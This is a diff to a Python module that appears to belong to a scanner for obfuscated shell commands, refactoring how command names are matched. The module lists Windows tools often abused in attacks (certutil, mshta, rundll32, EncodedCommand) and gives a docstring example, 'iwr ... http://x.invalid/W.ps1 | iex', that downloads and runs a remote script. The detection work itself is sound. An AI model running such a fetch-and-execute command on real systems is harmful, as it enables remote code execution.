@@ -8,6 +8,10 @@ from __future__ import annotations
 
 import base64
 import re
+from collections.abc import Callable, Collection
+from functools import cache
+
+from metier.govern.scan.triggers import words_of
 
 _MAYBE = re.compile(
     r"[\"'`]\s*\)?\s*[+.]\s*\(?\s*[\"'`]|fromC(?:har|ode)|\[\s*char\s*\]|\.join\s*\(|\.reverse\s*\(|\.concat\s*\(|\[\s*[\"'`]\w+[\"'`]\s*\]",
@@ -64,7 +68,7 @@ _NAMES = (
     "Get-ChildItem Remove-Item EncodedCommand UseBasicParsing OutFile schtasks certutil bitsadmin mshta regsvr32 rundll32 wscript cscript"
 ).split()
 _AS_WRITTEN = {name.lower(): name for name in _NAMES}
-_WRITTEN = (*_AS_WRITTEN.items(), ("http", "http"))
+_WRITTEN = {**_AS_WRITTEN, "http": "http"}
 _NAMED = re.compile(rf"(?<![\w/])(?:{'|'.join(map(re.escape, _NAMES))})(?!\w)|\bhttps?(?=://)", re.I)
 
 
@@ -178,9 +182,14 @@ def known_case(text: str) -> str:
     'iwr -UseB http://x.invalid/W.ps1 | iex'
     """
     lowered = text.lower()
-    if all(lowered.count(name) == text.count(written) for name, written in _WRITTEN if name in lowered):
+    if all(lowered.count(name) == text.count(_WRITTEN[name]) for name in _names_in()(lowered)):
         return text
     return _NAMED.sub(lambda found: _AS_WRITTEN.get(found[0].lower(), found[0].lower()), text)
+
+
+@cache
+def _names_in() -> Callable[[str], Collection[str]]:
+    return words_of([*_WRITTEN])
 
 
 def _of_codes(said: str) -> str:
